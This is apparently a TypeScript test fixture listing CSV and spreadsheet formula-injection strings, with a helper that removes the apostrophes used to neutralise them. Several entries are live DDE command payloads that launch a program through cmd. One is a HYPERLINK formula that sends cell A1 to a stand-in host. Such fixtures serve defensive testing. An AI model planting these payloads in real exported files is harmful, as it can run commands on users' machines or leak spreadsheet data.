/** For tests: the ways in which a text becomes a formula in some spreadsheet, and texts that only look so. */
export const formulaPayloads = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://x.example/?"&A1,"看")',
  '=DDE("cmd";"/C calc";"x")',
  '  =1',
  '\u3000=1',
  '\u00a0=1',
  '"=1"',
  "'=1",
  ';=1',
  'a;=1',
  '\ufeff=1',
  '\u200b@x',
  '-2+3+cmd|"/C calc"!A0',
  '=1\n=2',
];

/** A text as its author had written it: without the apostrophes that keep it a text in CSV. */
export const withoutApostrophes = (text: string): string =>
  text.replace(/^'/, '').replace(/(?<=[;\t\r\n])'(?=[=+\-@＝＋－＠])/gu, '');
